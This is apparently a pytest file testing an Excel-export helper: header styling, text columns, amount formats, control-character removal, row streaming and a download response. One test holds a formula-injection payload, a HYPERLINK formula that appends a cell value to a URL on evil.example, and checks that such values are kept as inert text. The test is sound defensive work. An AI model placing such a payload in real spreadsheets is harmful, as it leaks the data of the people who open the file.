"""The one writer of xlsx sheets (core.xlsx): the layout every download shares, and text that stays text."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from core.xlsx import build_workbook, clean_text


def test_build_workbook_layout_read_back():
    data = build_workbook("会员名册", ["姓名", "工号", "金额", "日期"],
                          [["张三明", 1002, Decimal("12.50"), date(2026, 1, 2)], ["李秀英", "T7", None, None]],
                          text_columns=(1,))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "会员名册" and ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["姓名", "工号", "金额", "日期"]
    assert all(c.font.b and c.fill.fgColor.rgb.endswith("DDEBF7") and c.alignment.horizontal == "center"
               for c in ws[1])
    assert ws["B2"].value == "1002" and ws["B2"].data_type == "s" and ws["B2"].number_format == "@"
    assert ws["C2"].value == 12.5 and ws["D2"].value.date() == date(2026, 1, 2)
    assert ws.column_dimensions["A"].width == 5 and ws.column_dimensions["B"].width == 6
    assert ws.max_row == 3


def test_formula_like_text_is_a_text_cell_unchanged():
    names = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx", "=", "普通"]
    ws = load_workbook(io.BytesIO(build_workbook("表", ["=姓名"], [[n] for n in names])), data_only=False).active
    assert ws["A1"].value == "=姓名" and ws["A1"].data_type == "s" and ws["A1"].font.b
    for row, name in enumerate(names, start=2):
        cell = ws.cell(row=row, column=1)
        assert cell.value == name, "lxml writes a CR as &#13;, so it reads back as written"
        assert cell.data_type == "s", name
        assert cell.quotePrefix == (name != "普通"), name


def test_control_characters_are_dropped():
    assert clean_text("张\x00三\x01\x1f丰\tx\ny\r") == "张三丰\tx\ny\r"
    ws = load_workbook(io.BytesIO(build_workbook("表", ["姓名"], [["张\x00三\x0b丰"]]))).active
    assert ws["A2"].value == "张三丰"


def test_rows_are_streamed_once_and_widths_come_from_the_first_rows(monkeypatch):
    """A generator of rows is read once, in order, past the rows that set the column widths."""
    from core import xlsx

    monkeypatch.setattr(xlsx, "WIDTH_SAMPLE", 3)
    read = []

    def rows():
        for n in range(10):
            read.append(n)
            yield [f"会员{n}", "很长很长很长很长很长的单位名称" if n == 9 else "短"]

    ws = load_workbook(io.BytesIO(build_workbook("表", ["姓名", "单位"], rows()))).active
    assert read == list(range(10))
    assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == [f"会员{n}" for n in range(10)]
    assert ws.column_dimensions["B"].width == 4, "the tenth row came after the sample"


def test_amounts_in_cents_show_two_decimals_other_decimals_as_they_are():
    ws = load_workbook(io.BytesIO(build_workbook(
        "表", ["金额", "得分", "工号"], [[Decimal("1234.5"), Decimal("9.125"), Decimal("7")]], text_columns=(2,)))).active
    assert ws["A2"].value == 1234.5 and ws["A2"].number_format == "#,##0.00"
    assert ws["B2"].value == 9.125 and ws["B2"].number_format == "General"
    assert ws["C2"].value == "7" and ws["C2"].number_format == "@"


def test_a_download_is_sent_from_a_temporary_file(app):
    from core.xlsx import workbook_response

    with app.test_request_context():
        response = workbook_response("名单.xlsx", "名单", ["姓名"], ([f"会员{n}"] for n in range(5)))
    assert response.direct_passthrough and response.content_length > 0
    data = b"".join(response.response)
    response.close()
    assert len(data) == response.content_length
    ws = load_workbook(io.BytesIO(data)).active
    assert [r[0] for r in ws.iter_rows(values_only=True)] == ["姓名"] + [f"会员{n}" for n in range(5)]
    assert "filename*=UTF-8''%E5%90%8D%E5%8D%95.xlsx" in response.headers["Content-Disposition"]
